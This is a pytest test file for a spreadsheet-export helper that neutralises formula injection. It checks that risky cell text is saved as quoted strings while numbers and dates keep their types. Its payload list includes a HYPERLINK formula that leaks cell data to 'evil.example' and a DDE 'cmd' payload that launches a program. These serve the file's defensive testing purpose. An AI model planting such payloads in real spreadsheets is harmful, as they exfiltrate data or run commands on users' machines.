"""Formula injection: risky text becomes a string cell, typed values stay typed."""

from __future__ import annotations

import zipfile
from datetime import date, datetime
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from toolkit.export.safecell import cell_value, is_risky, write_cell

PAYLOADS = [
    "=1+2",
    '=HYPERLINK("https://evil.example/?"&A1,"clic")',
    "=cmd|' /C calc'!A0",
    "+33 6 12 34 56 78",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


@pytest.mark.parametrize("text", PAYLOADS)
def test_risky_text_is_recognised(text: str) -> None:
    assert is_risky(text)


@pytest.mark.parametrize("text", ["Rouen", "1+1", "a=b", "", "Aucun créneau", "76"])
def test_plain_text_is_not_risky(text: str) -> None:
    assert not is_risky(text)


def test_payloads_are_written_as_text_never_as_formulas(tmp_path: Path) -> None:
    wb = Workbook()
    sheet = wb.active
    assert sheet is not None
    for i, text in enumerate(PAYLOADS, start=1):
        write_cell(sheet.cell(row=i, column=1), text)
    write_cell(sheet.cell(row=1, column=2), -5)
    write_cell(sheet.cell(row=2, column=2), 0.25)
    write_cell(sheet.cell(row=3, column=2), date(2025, 3, 1))
    write_cell(sheet.cell(row=4, column=2), "plain")
    write_cell(sheet.cell(row=5, column=2), "bad\x01control")
    path = tmp_path / "payloads.xlsx"
    wb.save(path)
    with zipfile.ZipFile(path) as z:
        xml = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml
    back = load_workbook(path).active
    assert back is not None
    for i, text in enumerate(PAYLOADS, start=1):
        cell = back.cell(row=i, column=1)
        assert cell.data_type == "s"
        assert cell.value == text.replace("\r", "\n") or cell.value == text
        assert cell.quotePrefix
    assert back.cell(row=1, column=2).value == -5
    assert back.cell(row=1, column=2).data_type == "n"
    assert back.cell(row=2, column=2).value == 0.25
    assert back.cell(row=3, column=2).value == datetime(2025, 3, 1)
    assert not back.cell(row=4, column=2).quotePrefix
    assert back.cell(row=5, column=2).value == "badcontrol"


def test_cell_value_keeps_types_and_stringifies_the_rest() -> None:
    assert cell_value(3) == 3
    assert cell_value(None) is None
    assert cell_value(True) is True
    assert cell_value({"a": 1}) == "{'a': 1}"
